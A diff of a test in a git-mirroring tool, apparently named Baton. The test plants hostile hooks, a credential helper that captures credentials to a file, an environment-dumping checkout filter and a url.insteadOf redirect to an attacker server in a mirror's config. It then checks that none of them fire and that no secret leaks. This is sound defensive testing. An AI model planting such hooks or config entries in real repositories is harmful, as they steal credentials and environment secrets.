@@ -70,35 +70,31 @@ test('credentials reach the server through the helper only: never a URL, a confi
     return error instanceof GitError && /\[REDACTED\]/.test(`${error.message}${error.stderr}`);
   });
 
-  // 3. A checkout that rewrote the mirror's config: hooks, a helper, askpass and a URL rewrite of its own.
+  // 3. A checkout that wrote into the mirror: hooks in its hooks directory; in its config a hooks
+  // path, a helper, a checkout filter and a URL rewrite of its own.
   const mirror = join(dataDir, 'mirrors/acme/app.git');
   const evil = join(dir, 'evil');
   await mkdir(join(evil, 'hooks'), { recursive: true });
   for (const hook of ['reference-transaction', 'pre-push', 'post-checkout']) {
-    await writeFile(join(evil, 'hooks', hook), `#!/bin/sh\nenv > ${join(evil, `${hook}.env`)}\n`, { mode: 0o755 });
+    const script = `#!/bin/sh\nenv > ${join(evil, `${hook}.env`)}\n`;
+    await writeFile(join(evil, 'hooks', hook), script, { mode: 0o755 });
+    await writeFile(join(mirror, 'hooks', hook), script, { mode: 0o755 });
   }
   await git(['config', 'core.hooksPath', join(evil, 'hooks')], mirror);
   await git(['config', 'credential.helper', `!f() { cat >> ${join(evil, 'helper.txt')}; }; f`], mirror);
   await git(['config', 'filter.dump.smudge', `env > ${join(evil, 'smudge.env')}; cat`], mirror);
+  await git(['config', `url.${attacker.url}/.insteadOf`, `${server.url}/`], mirror);
   const ws3 = await manager.prepareWorkspace({ repo, runId: 'run-3', ticketKey: 'ENG-3', title: 'hostile' });
   // The test's own commit keeps out of the trap, so that any hook run below is Baton's doing.
   await git(['-c', 'core.hooksPath=/dev/null', 'commit', '--quiet', '--allow-empty', '-m', 'fix'], ws3.path);
   await manager.push(ws3);
   for (const hook of ['reference-transaction', 'pre-push', 'post-checkout']) assert.ok(!existsSync(join(evil, `${hook}.env`)), `${hook} ran`);
   assert.ok(!existsSync(join(evil, 'helper.txt')), 'the repository’s own credential helper was asked');
-  // The checkout filter did run (it is the repository's business), but saw none of our secrets.
-  const smudgeEnv = await readFile(join(evil, 'smudge.env'), 'utf8');
-  assertNoSecret(smudgeEnv, 'the environment of a checkout filter');
-  assert.match(smudgeEnv, new RegExp(`^HOME=${join(dataDir, 'git-home')}$`, 'm'));
-
-  // url.insteadOf sending the fetch elsewhere: the helper answers only for the configured host.
-  await git(['config', `url.${attacker.url}/.insteadOf`, `${server.url}/`], mirror);
-  await assert.rejects(manager.prepareWorkspace({ repo, runId: 'run-4', ticketKey: 'ENG-4', title: 'redirected' }), (error: unknown) => {
-    errors.push(error);
-    return error instanceof GitError;
-  });
-  assert.ok(attacker.requests.length > 0, 'the rewrite took effect');
-  assert.ok(attacker.requests.every((r) => r.authorization === undefined), 'credentials went to another host');
+  // Baton rewrote the mirror's config before fetching, so the filter was gone by the checkout, and
+  // the URL rewrite by the fetch: the attacker's server heard nothing.
+  assert.ok(!existsSync(join(evil, 'smudge.env')), 'the checkout filter from the mirror’s old config ran');
+  assert.deepEqual(attacker.requests, []);
+  assert.doesNotMatch(await git(['config', '--list'], mirror), /^(url|filter|credential|core\.hookspath)/im);
 
   // Nowhere on disk, in remotes, logs or errors.
   for (const file of await filesUnder(dataDir)) assertNoSecret((await readFile(file)).toString('latin1'), file);
